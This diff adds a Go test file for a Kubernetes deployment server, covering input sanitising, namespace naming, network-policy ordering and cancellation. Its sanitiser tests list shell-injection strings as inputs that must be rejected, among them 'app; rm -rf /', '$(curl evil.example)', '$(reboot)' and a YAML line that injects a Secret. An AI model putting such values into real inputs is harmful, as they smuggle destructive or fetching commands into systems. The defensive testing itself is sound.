@@ -0,0 +1,387 @@
+package main
+
+import (
+	"context"
+	"errors"
+	"log/slog"
+	"os"
+	"path/filepath"
+	"slices"
+	"strings"
+	"sync"
+	"testing"
+	"time"
+
+	corev1 "k8s.io/api/core/v1"
+	apierrors "k8s.io/apimachinery/pkg/api/errors"
+	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
+	"k8s.io/apimachinery/pkg/util/validation"
+	"k8s.io/client-go/kubernetes/fake"
+)
+
+// useTestStore points deploymentStore at a temporary database for the duration of the test.
+func useTestStore(t *testing.T) {
+	t.Helper()
+	store, err := newSQLiteStore(filepath.Join(t.TempDir(), "deployments.db"))
+	if err != nil {
+		t.Fatal(err)
+	}
+	old := deploymentStore
+	deploymentStore = store
+	t.Cleanup(func() { deploymentStore = old })
+}
+
+// newTestDeployment registers a deployment of payload with a temporary store, finishing it
+// when the test ends.
+func newTestDeployment(t *testing.T, payload DeploymentPayload) (*Deployment, context.Context) {
+	t.Helper()
+	useTestStore(t)
+	d, ctx := registerDeployment(context.Background(), nil, payload)
+	t.Cleanup(func() { finishDeployment(d) })
+	return d, ctx
+}
+
+// sentEvents returns the names of the events the deployment has sent, in order.
+func sentEvents(d *Deployment) []string {
+	var names []string
+	for _, e := range d.events.since(0) {
+		names = append(names, e.Event)
+	}
+	return names
+}
+
+// testConfigOnce applies the test settings once: goroutines a test's deployment leaves
+// behind may still read them while the next test starts.
+var testConfigOnce sync.Once
+
+// useTestConfig configures the server with its default settings and the repository's
+// templates and starts the deployment workers.
+func useTestConfig() {
+	testConfigOnce.Do(func() {
+		cfg := defaultConfig()
+		for _, template := range []*string{
+			&cfg.TestPodTemplate, &cfg.ProdPodTemplate, &cfg.ProdServiceTemplate, &cfg.IngressTemplate,
+			&cfg.CanaryIngressTemplate, &cfg.CustomDomainIngressTemplate, &cfg.NetworkPolicyTemplate,
+			&cfg.HPATemplate, &cfg.PrebuiltPodTemplate, &cfg.SmokeTestPodTemplate,
+		} {
+			*template = filepath.Join("..", *template)
+		}
+		cfg.JWTSecret = "test-secret"
+		cfg.apply()
+		deploymentPool = newWorkerPool(cfg.WorkerPoolSize)
+	})
+}
+
+// useTestEnvironment applies the test configuration with useTestConfig. For the duration of
+// the test, a fake primary cluster and a fakeRunner stand in for the cluster, kubectl and
+// helm.
+func useTestEnvironment(t *testing.T) (*fake.Clientset, *fakeRunner) {
+	t.Helper()
+	useTestConfig()
+
+	cs := fake.NewSimpleClientset()
+	previous := primaryCluster
+	primaryCluster = &cluster{Name: "test", Client: cs}
+	t.Cleanup(func() { primaryCluster = previous })
+	useTestStore(t)
+	runner := &fakeRunner{}
+	useFakeRunner(t, runner)
+	return cs, runner
+}
+
+// testSink is an eventSink recording the events written to it.
+type testSink struct {
+	mu     sync.Mutex
+	events []Event
+}
+
+func (s *testSink) WriteJSON(v interface{}) error {
+	s.mu.Lock()
+	defer s.mu.Unlock()
+	if e, ok := v.(Event); ok {
+		s.events = append(s.events, e)
+	}
+	return nil
+}
+
+// startTestDeployment runs a deployment of payload in the background, as a worker would,
+// with sink subscribed to it, returning once it has been registered.
+func startTestDeployment(t *testing.T, sink eventSink, payload DeploymentPayload) (*Deployment, <-chan struct{}) {
+	t.Helper()
+	d, ctx := registerDeployment(context.Background(), sink, payload)
+	done := make(chan struct{})
+	go func() {
+		defer close(done)
+		handleDeployment(ctx, d, payload)
+		finishDeployment(d)
+	}()
+	t.Cleanup(func() {
+		d.cancel()
+		<-done
+	})
+	return d, done
+}
+
+// waitForEvent waits until the deployment has sent the named event, failing the test if it
+// finishes or takes too long first.
+func waitForEvent(t *testing.T, d *Deployment, event string) Event {
+	t.Helper()
+	deadline := time.Now().Add(10 * time.Second)
+	for time.Now().Before(deadline) {
+		for _, e := range d.events.since(0) {
+			if e.Event == event {
+				return e
+			}
+		}
+		time.Sleep(5 * time.Millisecond)
+	}
+	t.Fatalf("deployment never sent %s; sent %v", event, sentEvents(d))
+	return Event{}
+}
+
+// containsAll reports whether s contains every one of substrings.
+func containsAll(s string, substrings ...string) bool {
+	for _, sub := range substrings {
+		if !strings.Contains(s, sub) {
+			return false
+		}
+	}
+	return true
+}
+
+func TestSanitizeSubstitution(t *testing.T) {
+	for _, value := range []string{"backend-im", "abc1234", "app.example.com", "user_1", "10", "ghcr.io/team/app:v1"} {
+		if got, err := sanitizeSubstitution(value); err != nil || got != value {
+			t.Errorf("sanitizeSubstitution(%q) = %q, %v; want it unchanged", value, got, err)
+		}
+	}
+	for _, value := range []string{
+		"`id`",
+		"app; rm -rf /",
+		"$(curl evil.example)",
+		"${HOME}",
+		"a && b",
+		"a | b",
+		"a\nkind: Secret",
+		"'quoted'",
+		`"quoted"`,
+	} {
+		if _, err := sanitizeSubstitution(value); err == nil {
+			t.Errorf("sanitizeSubstitution(%q) accepted an unsafe value", value)
+		}
+	}
+}
+
+func TestRenderK8sTemplatesRejectsUnsafeSubstitution(t *testing.T) {
+	path := filepath.Join(t.TempDir(), "pod.yaml")
+	if err := os.WriteFile(path, []byte("apiVersion: v1\nkind: Pod\nmetadata:\n  name: {{ .Name }}\n"), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	rendered, err := renderK8sTemplates(path, map[string]string{"Name": "app"})
+	if err != nil || len(rendered) != 1 || !strings.Contains(rendered[0].Manifest, "name: app") {
+		t.Fatalf("renderK8sTemplates = %+v, %v; want the rendered manifest", rendered, err)
+	}
+	if _, err := renderK8sTemplates(path, map[string]string{"Name": "$(reboot)"}); err == nil {
+		t.Error("rendered a template with an unsafe substitution")
+	}
+}
+
+// checkNamespace fails the test unless namespace is a valid Kubernetes namespace name.
+func checkNamespace(t *testing.T, namespace string) {
+	t.Helper()
+	if errs := validation.IsDNS1123Label(namespace); len(errs) > 0 {
+		t.Errorf("namespace %q is invalid: %s", namespace, strings.Join(errs, "; "))
+	}
+}
+
+func TestGenerateNamespaceNormalizes(t *testing.T) {
+	tests := []struct {
+		name, userID, commitHash string
+	}{
+		{"uppercase user", "Alice_Smith", "abc1234"},
+		{"emoji user", "dev🚀team", "abc1234"},
+		{"uppercase commit", "alice", "ABCDEF1234"},
+		{"100-character commit", "alice", strings.Repeat("a", 100)},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			namespace, err := generateNamespace(tt.userID, "https://github.com/a/app", tt.commitHash)
+			if err != nil {
+				t.Fatal(err)
+			}
+			checkNamespace(t, namespace)
+		})
+	}
+
+	// Users whose IDs only differ in characters that normalization drops stay apart.
+	a, _ := generateNamespace("Alice", "https://github.com/a/app", "abc1234")
+	b, _ := generateNamespace("alice", "https://github.com/a/app", "abc1234")
+	if a == b {
+		t.Errorf("users Alice and alice share namespace %s", a)
+	}
+
+	for _, userID := range []string{"", "🚀", "___"} {
+		if namespace, err := generateNamespace(userID, "https://github.com/a/app", "abc1234"); err == nil {
+			t.Errorf("generateNamespace(%q) = %q, want an error", userID, namespace)
+		}
+	}
+}
+
+func TestGenerateNamespaceBoundsLength(t *testing.T) {
+	fullHash := "0123456789abcdef0123456789abcdef01234567"
+	longUser := strings.Repeat("user", 30)
+	namespace, err := generateNamespace(longUser, "https://github.com/a/app", fullHash)
+	if err != nil {
+		t.Fatal(err)
+	}
+	checkNamespace(t, namespace)
+	if !strings.HasSuffix(namespace, "-"+repoHash("https://github.com/a/app")+"-0123456") {
+		t.Errorf("namespace %q does not end in the whole repository hash and short commit", namespace)
+	}
+
+	// Long user IDs that share the part kept in the name still get distinct namespaces.
+	other, err := generateNamespace(longUser+"x", "https://github.com/a/app", fullHash)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if other == namespace {
+		t.Errorf("distinct long user IDs share namespace %s", namespace)
+	}
+	// Every commit of a repository sharing its abbreviated hash shares the namespace.
+	short, _ := generateNamespace(longUser, "https://github.com/a/app", fullHash[:7])
+	if short != namespace {
+		t.Errorf("full and abbreviated hashes give namespaces %s and %s", namespace, short)
+	}
+}
+
+func TestDisconnectCancelsDeploymentAndDeletesNamespace(t *testing.T) {
+	useTestEnvironment(t)
+	runner := commandRunner.(*fakeRunner)
+	previousGrace := reconnectGrace
+	reconnectGrace = 10 * time.Millisecond
+	t.Cleanup(func() { reconnectGrace = previousGrace })
+
+	sink := &testSink{}
+	d, done := startTestDeployment(t, sink, DeploymentPayload{UserID: "alice", RepoURL: "https://github.com/a/app", CommitHash: "abcdef1"})
+	waitForEvent(t, d, "manifests_applied")
+
+	// The client goes away while the tests run.
+	d.events.unsubscribe(slog.Default(), sink)
+	select {
+	case <-done:
+	case <-time.After(10 * time.Second):
+		t.Fatal("deployment kept running after its client disconnected")
+	}
+	if status := d.status(); status != StatusCancelled {
+		t.Errorf("status = %s, want %s", status, StatusCancelled)
+	}
+	namespace, _ := generateNamespace("alice", "https://github.com/a/app", "abcdef1")
+	if got := deletedNamespaces(runner); !slices.Equal(got, []string{namespace}) {
+		t.Errorf("deleted namespaces = %v, want [%s]", got, namespace)
+	}
+}
+
+func TestGeneratePVCNameBoundsLength(t *testing.T) {
+	namespace, err := generateNamespace(strings.Repeat("user", 30), "https://github.com/a/app", "abcdef1")
+	if err != nil {
+		t.Fatal(err)
+	}
+	code := generatePVCName(namespace, codeVolumePurpose)
+	if errs := validation.IsDNS1123Label(code); len(errs) > 0 {
+		t.Errorf("PVC name %q is invalid: %s", code, strings.Join(errs, "; "))
+	}
+	if other := generatePVCName(namespace, "cache"); other == code {
+		t.Errorf("purposes code and cache share PVC name %s", code)
+	}
+	if got := generatePVCName("alice-app", codeVolumePurpose); got != "alice-app-code" {
+		t.Errorf("generatePVCName(alice-app) = %q, want alice-app-code", got)
+	}
+}
+
+// isApply reports whether cmd applies manifests for real rather than as a dry run.
+func isApply(cmd Command) bool {
+	return slices.Contains(cmd.Args, "apply") && !slices.ContainsFunc(cmd.Args, func(arg string) bool { return strings.HasPrefix(arg, "--dry-run") })
+}
+
+// appliedManifests returns the manifests the runner applied for real.
+func appliedManifests(f *fakeRunner) []string {
+	var manifests []string
+	for _, cmd := range f.Commands() {
+		if isApply(cmd) {
+			manifests = append(manifests, cmd.Stdin)
+		}
+	}
+	return manifests
+}
+
+func TestNetworkPolicyIsAppliedBeforeTestPod(t *testing.T) {
+	_, runner := useTestEnvironment(t)
+	d, _ := startTestDeployment(t, nil, DeploymentPayload{UserID: "alice", RepoURL: "https://github.com/a/app", CommitHash: "abcdef1"})
+	waitForEvent(t, d, "manifests_applied")
+
+	namespace, _ := generateNamespace("alice", "https://github.com/a/app", "abcdef1")
+	manifests := appliedManifests(runner)
+	policy := slices.IndexFunc(manifests, func(m string) bool {
+		return containsAll(m, "kind: NetworkPolicy", "name: default-deny", "namespace: "+namespace)
+	})
+	pod := slices.IndexFunc(manifests, func(m string) bool { return strings.Contains(m, "kind: Pod") })
+	if policy < 0 {
+		t.Fatalf("the default-deny network policy was never applied in %s", namespace)
+	}
+	if pod >= 0 && pod < policy {
+		t.Error("the test pod was applied before the network policy")
+	}
+	for _, name := range []string{"allow-dns", "allow-internet-egress", "allow-ingress-controller"} {
+		if !slices.ContainsFunc(manifests, func(m string) bool { return strings.Contains(m, "name: "+name) }) {
+			t.Errorf("network policy %s was never applied", name)
+		}
+	}
+}
+
+func TestNetworkPolicyFailureStopsDeployment(t *testing.T) {
+	_, runner := useTestEnvironment(t)
+	runner.Handler = func(cmd Command) (string, error) {
+		if isApply(cmd) && strings.Contains(cmd.Stdin, "kind: NetworkPolicy") {
+			return "error: unable to recognize \"STDIN\": no matches for kind \"NetworkPolicy\"", errors.New("exit status 1")
+		}
+		return "", nil
+	}
+	d, done := startTestDeployment(t, nil, DeploymentPayload{UserID: "alice", RepoURL: "https://github.com/a/app", CommitHash: "abcdef1"})
+	waitForFinish(t, done)
+
+	if status := d.status(); status != StatusFailed {
+		t.Errorf("status = %s, want %s", status, StatusFailed)
+	}
+	if i := slices.IndexFunc(d.events.since(0), func(e Event) bool { return e.Code == codeApplyFailed }); i < 0 {
+		t.Errorf("no %s event; sent %v", codeApplyFailed, sentEvents(d))
+	}
+	if slices.ContainsFunc(appliedManifests(runner), func(m string) bool { return strings.Contains(m, "kind: Pod") }) {
+		t.Error("the test pod was applied without a network policy")
+	}
+}
+
+// touchPod updates the pod's status for a while, so that watches started after it was
+// created see it: unlike the API server, the fake clientset replays nothing to new watches.
+func touchPod(cs *fake.Clientset, pod *corev1.Pod) {
+	for range 200 {
+		time.Sleep(10 * time.Millisecond)
+		if _, err := cs.CoreV1().Pods(pod.Namespace).UpdateStatus(context.Background(), pod, metav1.UpdateOptions{}); err != nil {
+			return
+		}
+	}
+}
+
+// runTestPodsAs makes the runner create each test pod it applies with status, as if it had
+// run to that point.
+func runTestPodsAs(cs *fake.Clientset, f *fakeRunner, status corev1.PodStatus) {
+	f.Handler = func(cmd Command) (string, error) {
+		if i := slices.Index(cmd.Args, "-n"); isApply(cmd) && i >= 0 && strings.Contains(cmd.Stdin, "kind: Pod") {
+			pod := &corev1.Pod{ObjectMeta: metav1.ObjectMeta{Name: defaultTestPodName, Namespace: cmd.Args[i+1]}, Status: status}
+			if _, err := cs.CoreV1().Pods(pod.Namespace).Create(context.Background(), pod, metav1.CreateOptions{}); err != nil && !apierrors.IsAlreadyExists(err) {
+				return "", err
+			}
+			go touchPod(cs, pod)
+		}
+		return "", nil
+	}
+}